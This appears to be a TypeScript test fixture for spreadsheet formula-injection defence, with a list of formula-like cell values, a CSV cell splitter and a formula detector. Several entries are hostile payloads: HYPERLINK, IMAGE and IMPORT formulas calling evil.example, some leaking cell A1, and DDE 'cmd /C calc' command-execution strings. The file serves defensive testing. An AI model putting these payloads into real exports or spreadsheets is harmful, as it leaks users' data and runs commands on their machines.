/** Cell contents that a spreadsheet would run as a formula. Checks of the whole product use them too. */
export const FORMULAS = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1,1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "\0=1+1",
  " =1+1",
  "\u00a0=1+1",
  "\ufeff=1+1",
  "\u200b=1+1",
  "＝1+1",
  "＋1+1",
  "－1+1",
  "＠SUM(1,1)",
  '=HYPERLINK("https://evil.example/?d="&A1,"Open")',
  '=IMPORTXML("https://evil.example/","//a")',
  '=IMPORTDATA("https://evil.example/")',
  '=IMAGE("https://evil.example/?d="&A1)',
  '=WEBSERVICE("https://evil.example/")',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-cmd|' /C calc'!A0",
  "@cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"1")',
  "=1+1;2",
  "Lisbon;=1+1",
  "Lisbon;=cmd|' /C calc'!A0;x",
  "Lisbon\t=1+1",
  "Lisbon\r\n=1+1",
  "Lisbon\n+1+1",
  'Lisbon"\r\n=1+1,"',
  'Lisbon",=1+1,"',
  '";=1+1;"',
  '"=1+1"',
  "Lisbon,@SUM(1,1)",
  "Lisbon; \t-1+1",
  "Lisbon|=1+1",
  "-2+3+cmd|' /C calc'!A0",
] as const;

/** Splits text into cells like a spreadsheet with this separator. Quotes count only at the start of a cell. */
export function cellsSplitAt(mark: string, text: string): readonly string[] {
  const cells: string[] = [];
  let at = text.startsWith("\uFEFF") ? 1 : 0;
  while (at < text.length) {
    let cell = "";
    if (text[at] === '"') {
      at += 1;
      while (at < text.length && !(text[at] === '"' && text[at + 1] !== '"')) {
        if (text[at] === '"') at += 1;
        cell += text[at];
        at += 1;
      }
      at += 1;
    }
    while (at < text.length && text[at] !== mark && text[at] !== "\r" && text[at] !== "\n") {
      cell += text[at];
      at += 1;
    }
    cells.push(cell);
    at += text.startsWith("\r\n", at) ? 2 : 1;
  }
  return cells;
}

/** Whether a spreadsheet would run the cell. A number is not a formula. */
export const isFormula = (cell: string): boolean =>
  /^["\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]/u.test(cell) && !/^[+-]?\d+(\.\d+)?$/.test(cell);
